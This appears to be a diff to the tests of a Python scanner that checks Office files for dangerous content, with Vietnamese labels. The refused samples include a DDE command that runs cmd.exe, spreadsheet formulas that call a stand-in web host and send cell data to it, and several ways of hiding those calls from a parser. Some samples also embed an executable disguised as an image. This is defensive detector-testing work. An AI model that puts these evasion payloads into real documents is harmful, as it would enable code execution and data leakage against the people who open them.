@@ -71,6 +71,11 @@ def sheet(formula: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
     return office("xlsx", more={name: text})
 
 
+def workbook(inside: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
+    """A workbook with ``inside`` in a part of it."""
+    return office("xlsx", more={name: f"<worksheet {_S}>{inside}</worksheet>"})
+
+
 def hyperlink(address: str) -> bytes:
     kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
     return relation(f'Type="{kind}" Target="{address}" TargetMode="External"')
@@ -82,6 +87,7 @@ _OUTSIDE = f'{_TEMPLATE} Target="https://x.vn/a" TargetMode="External"'
 MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
 
 _DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
+_CALL = 'WEBSERVICE("https://x.vn/")'
 _RUNS, _SHARE = "tự gọi chương trình", "liên kết đến tệp"
 _CHUNK = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="a.html"'
 
@@ -97,6 +103,11 @@ TAKEN = {
     "Word that speaks of DDEAUTO": word(r"<w:t>DDEAUTO, INCLUDETEXT, \\\\host\\share, altChunk</w:t>"),
     "Word with a picture once kept on a share": word(r'<w:docPr descr="\\\\host\\a.png"/>'),
     "Excel with formulas": sheet('SUM(A1:A9)&amp;"a|b!"'),
+    "Excel with a sum over another sheet": sheet("SUM('Tháng 1'!A1:A9)/'Tháng 2'!A1"),
+    "Excel with a list to choose from": workbook(
+        "<dataValidation><formula1>'Danh mục'!$A$1:$A$9</formula1></dataValidation>"
+    ),
+    "Excel with a remark in its XML": workbook("<!-- a --><row/>"),
     "Excel with a link": sheet('HYPERLINK("https://x.vn","x")'),
 }
 
@@ -192,6 +203,35 @@ REFUSED = {
     "Excel with DDE in signs of XML": (sheet("cmd&#124;'/c calc'!A1"), _RUNS),
     "Excel with a call of the web": (sheet('WEBSERVICE("https://x.vn/"&amp;A1)'), _RUNS),
     "Excel with a link to a share": (sheet(r'HYPERLINK("\\host\a","x")'), _SHARE),
+    "Excel with a call behind a long text": (sheet(f'"{"a" * 250}"&amp;{_CALL}'), _RUNS),
+    "Excel with a call behind a long sum": (sheet(f"{'1+' * 1_500}{_CALL}"), _RUNS),
+    "Excel with a call in a section": (sheet(f"<![CDATA[{_CALL}]]>"), _RUNS),
+    "Excel with a call cut by a remark": (sheet(_CALL.replace("B", "B<!-- -->")), _RUNS),
+    "Excel with a call cut by an instruction": (sheet(_CALL.replace("B", "B<?a b?>")), _RUNS),
+    "Excel with a call under another name of its space": (
+        workbook(f'<a-b:f xmlns:a-b="{_S.partition(chr(34))[2].rstrip(chr(34))}">{_CALL}</a-b:f>'),
+        _RUNS,
+    ),
+    "Excel with a call behind a name": (
+        workbook(f'<definedName name="a">{_CALL}</definedName>', name="xl/workbook.xml"),
+        _RUNS,
+    ),
+    "Excel with a call that colours a cell": (workbook(f"<formula>{_CALL}</formula>"), _RUNS),
+    "Excel with a call that checks a cell": (workbook(f"<formula1>{_CALL}=1</formula1>"), _RUNS),
+    "Excel with a call that fills a column": (
+        workbook(f"<calculatedColumnFormula>{_CALL}</calculatedColumnFormula>", name="xl/tables/table1.xml"),
+        _RUNS,
+    ),
+    "Excel with a picture of the web": (sheet('_xlfn.IMAGE("https://x.vn/a.png")'), _RUNS),
+    "Excel with a table of the web": (sheet('IMPORTXML("https://x.vn/a","//b")'), _RUNS),
+    "Excel with a cell of another machine": (sheet(r"'\\host\a\[b.xlsx]C'!A1"), _SHARE),
+    "Excel with a cell of another file": (sheet("'file:///c:/b.xlsx'!A1"), _SHARE),
+    "Excel with a cell of the web": (sheet("&apos;https://x.vn/[b.xlsx]C&apos;!A1"), _SHARE),
+    "Word with an object under a harmless name and kind": (
+        office(more={"word/media/image1.jpg": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}),
+        "macro",
+    ),
+    "Word with a program inside": (office(more={"word/a.dat": b"MZ\x90\x00" + b"\0" * 60}), "macro"),
     "Excel with a link to a program": (
         office(
             "xlsx",
